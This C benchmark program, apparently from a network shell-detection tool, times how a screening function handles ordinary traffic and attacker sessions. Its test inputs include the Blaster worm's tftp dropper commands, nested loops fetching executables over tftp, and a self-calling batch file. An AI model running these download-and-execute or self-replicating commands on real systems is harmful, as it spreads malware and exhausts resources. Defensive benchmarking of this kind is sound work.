/*
 * bench_screen: what screening costs per call on what is not a shell
 * (binary, TLS, HTTP, SMTP) and on what is, and what a session costs in
 * time and memory. Prints numbers; asserts nothing.
 *
 *   build/tests/shell/bench_screen [CALLS]     (default 2000000 per case)
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "shell.h"

#define NBUF 64

static uint64_t xs = 88172645463325252ull;

static uint8_t rnd(void)
{
	xs ^= xs << 13;
	xs ^= xs >> 7;
	xs ^= xs << 17;
	return (uint8_t)xs;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + t.tv_nsec / 1e9;
}

struct bufset {
	uint8_t *b[NBUF];
	size_t len[NBUF];
};

/* The best of REPS batches: other processes on the machine only add time. */
#define REPS 9

static double bench(const char *name, const struct bufset *bs, long calls, enum ws_shell_hint *h)
{
	volatile unsigned sink = 0;
	double ns = 1e30;

	for (int r = 0; r < REPS; r++) {
		double t0 = now(), x;

		for (long i = 0; i < calls / REPS; i++)
			sink += ws_shell_screen(bs->b[i % NBUF], bs->len[i % NBUF]);
		x = (now() - t0) * 1e9 / (double)(calls / REPS);
		ns = x < ns ? x : ns;
	}
	*h = ws_shell_screen(bs->b[0], bs->len[0]);
	printf("  %-34s %6zu bytes  %8.1f ns/call  -> %s\n", name, bs->len[0], ns,
	       ws_shell_hint_name(*h));
	(void)sink;
	return ns;
}

static void fill_text(struct bufset *bs, const char *text)
{
	for (int i = 0; i < NBUF; i++) {
		bs->len[i] = strlen(text);
		bs->b[i] = malloc(bs->len[i]);
		memcpy(bs->b[i], text, bs->len[i]);
	}
}

static void fill_random(struct bufset *bs, size_t len, const uint8_t *prefix, size_t plen)
{
	for (int i = 0; i < NBUF; i++) {
		bs->len[i] = len;
		bs->b[i] = malloc(len);
		for (size_t k = 0; k < len; k++)
			bs->b[i][k] = rnd();
		memcpy(bs->b[i], prefix, plen);
	}
}

static void free_set(struct bufset *bs)
{
	for (int i = 0; i < NBUF; i++)
		free(bs->b[i]);
}

static void noop(const struct ws_shell_event *ev, void *arg)
{
	(void)ev;
	(*(unsigned *)arg)++;
}

/* The worst lines we know of, each as the attacker's: time per line. */
static void bench_hostile(void)
{
	static char line[20000];
	struct timeval ts = {0, 0};
	unsigned events = 0;
	const char *banner = "Microsoft Windows XP [Version 5.1.2600]\r\n\r\nC:\\WINDOWS\\system32>";
	const char *names[] = {"8191 x '('", "4096 x 'a^' continued lines", "%x:<4000 a>=b% on an 8000-byte x",
			       "for in for in for in for, 8 items each", "2700 x 'cmd /c '",
			       "2700 x 'echo x&'", "batch calling itself 4 times per line",
			       "8191 printable random bytes"};

	printf("hostile lines (each fed to a fresh attacker session):\n");
	for (int k = 0; k < 8; k++) {
		struct ws_shell *s;
		size_t n = 0;
		double t0, best = 1e30;

		for (int rep = 0; rep < 5; rep++) {
			s = ws_shell_new();
			ws_shell_feed(s, WS_SIDE_SERVER, (const uint8_t *)banner, strlen(banner), &ts, noop, &events);
			switch (k) {
			case 0:
				memset(line, '(', 8191);
				n = 8191;
				line[n++] = '\n';
				break;
			case 1:
				for (n = 0; n < 4096 * 3; n += 3)
					memcpy(line + n, "a^\n", 3);
				line[n++] = '\n';
				break;
			case 2: {
				char *set = malloc(9000);

				memcpy(set, "set x=", 6);
				memset(set + 6, 'a', 8000);
				set[8006] = '\n';
				ws_shell_feed(s, WS_SIDE_CLIENT, (uint8_t *)set, 8007, &ts, noop, &events);
				free(set);
				n = (size_t)sprintf(line, "echo %%x:");
				memset(line + n, 'a', 4000);
				n += 4000;
				n += (size_t)sprintf(line + n, "=b%%\n");
				break;
			}
			case 3:
				n = (size_t)sprintf(line, "for %%a in (1 2 3 4 5 6 7 8) do for %%b in (1 2 3 4 5 6 7 8) do "
							  "for %%c in (1 2 3 4 5 6 7 8) do for %%d in (1 2 3 4 5 6 7 8) do "
							  "tftp -i 1.2.3.4 GET %%a%%b%%c%%d.exe\n");
				break;
			case 4:
				for (n = 0; n + 7 < 8191; n += 7)
					memcpy(line + n, "cmd /c ", 7);
				line[n++] = '\n';
				break;
			case 5:
				for (n = 0; n + 7 < 8191; n += 7)
					memcpy(line + n, "echo x&", 7);
				line[n++] = '\n';
				break;
			case 6: {
				const char *mk = "echo t.bat^&t.bat^&t.bat^&t.bat > t.bat\n";

				ws_shell_feed(s, WS_SIDE_CLIENT, (const uint8_t *)mk, strlen(mk), &ts, noop, &events);
				n = (size_t)sprintf(line, "t.bat\n");
				break;
			}
			default:
				for (n = 0; n < 8191; n++)
					line[n] = (char)(0x20 + rnd() % 95);
				line[n++] = '\n';
				break;
			}
			t0 = now();
			ws_shell_feed(s, WS_SIDE_CLIENT, (const uint8_t *)line, n, &ts, noop, &events);
			t0 = now() - t0;
			best = t0 < best ? t0 : best;
			ws_shell_free(s);
		}
		printf("  %-42s %6zu bytes  %9.1f us/line\n", names[k], n, best * 1e6);
	}
}

int main(int argc, char **argv)
{
	long calls = argc > 1 ? atol(argv[1]) : 2000000;
	struct bufset bs;
	enum ws_shell_hint h;
	char html[1461];
	static const uint8_t tls[] = {0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03};

	printf("ws_shell_screen, %ld calls per case (%d distinct buffers), best of %d batches:\n", calls, NBUF, REPS);
	fill_random(&bs, 1460, NULL, 0);
	bench("random binary, full segment", &bs, calls, &h);
	free_set(&bs);
	fill_random(&bs, 1460, tls, sizeof(tls));
	bench("TLS record (random body)", &bs, calls, &h);
	free_set(&bs);
	fill_text(&bs, "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\n"
		       "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36\r\n"
		       "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
		       "Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\n"
		       "Connection: keep-alive\r\nCookie: session=0123456789abcdef\r\n\r\n");
	bench("HTTP request", &bs, calls, &h);
	free_set(&bs);
	memset(html, 'a', sizeof(html) - 1);
	html[sizeof(html) - 1] = '\0';
	memcpy(html, "HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Type: text/html\r\n"
		     "Content-Length: 51234\r\n\r\n<!DOCTYPE html><html><head><title>x</title>", 103);
	for (size_t i = 103; i + 1 < sizeof(html); i += 40)
		html[i] = '\n';
	fill_text(&bs, html);
	bench("HTTP response, full segment", &bs, calls, &h);
	free_set(&bs);
	fill_text(&bs, "220 mail.example.com ESMTP Postfix (Debian/GNU)\r\n");
	bench("SMTP banner", &bs, calls, &h);
	free_set(&bs);
	fill_text(&bs, "Microsoft Windows XP [Version 5.1.2600]\r\n"
		       "(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>");
	bench("cmd.exe banner", &bs, calls / 10, &h);
	free_set(&bs);
	fill_text(&bs, "tftp -i 81.132.114.254 GET msblast.exe\n");
	bench("dropper command", &bs, calls / 10, &h);
	free_set(&bs);

	/* sessions: a Blaster session end to end, and 1 MB of binary undecided */
	{
		const char *banner = "Microsoft Windows XP [Version 5.1.2600]\r\n\r\nC:\\WINDOWS\\system32>";
		const char *typed = "tftp -i 81.132.114.254 GET msblast.exe\nstart msblast.exe\nmsblast.exe\n";
		struct timeval ts = {0, 0};
		unsigned events = 0;
		long n = calls / 20;
		double t0 = now();
		struct ws_shell_stats st;
		uint8_t *bin = malloc(1 << 20);
		struct ws_shell *s;

		for (long i = 0; i < n; i++) {
			s = ws_shell_new();
			ws_shell_feed(s, WS_SIDE_SERVER, (const uint8_t *)banner, strlen(banner), &ts, noop, &events);
			ws_shell_feed(s, WS_SIDE_CLIENT, (const uint8_t *)typed, strlen(typed), &ts, noop, &events);
			ws_shell_free(s);
		}
		printf("session: Blaster (banner, 3 lines, 3 events): %.2f us/session (%u events)\n",
		       (now() - t0) * 1e6 / (double)n, events);
		for (size_t k = 0; k < (1u << 20); k++)
			bin[k] = rnd();
		s = ws_shell_new();
		t0 = now();
		for (int r = 0; r < 20; r++)
			for (size_t k = 0; k < (1u << 20); k += 1460)
				ws_shell_feed(s, r & 1, bin + k, (1u << 20) - k < 1460 ? (1u << 20) - k : 1460, &ts, noop, &events);
		printf("session: random binary both ways, undecided: %.0f MB/s\n", 20.0 / (now() - t0));
		ws_shell_get_stats(s, &st);
		printf("memory: that session holds %zu bytes\n", st.heap);
		ws_shell_free(s);
		free(bin);
		s = ws_shell_new();
		ws_shell_get_stats(s, &st);
		printf("memory: new session %zu bytes\n", st.heap);
		ws_shell_feed(s, WS_SIDE_SERVER, (const uint8_t *)banner, strlen(banner), &ts, noop, &events);
		ws_shell_feed(s, WS_SIDE_CLIENT, (const uint8_t *)typed, strlen(typed), &ts, noop, &events);
		ws_shell_get_stats(s, &st);
		printf("memory: after the Blaster session %zu bytes\n", st.heap);
		ws_shell_free(s);
	}
	bench_hostile();
	return 0;
}
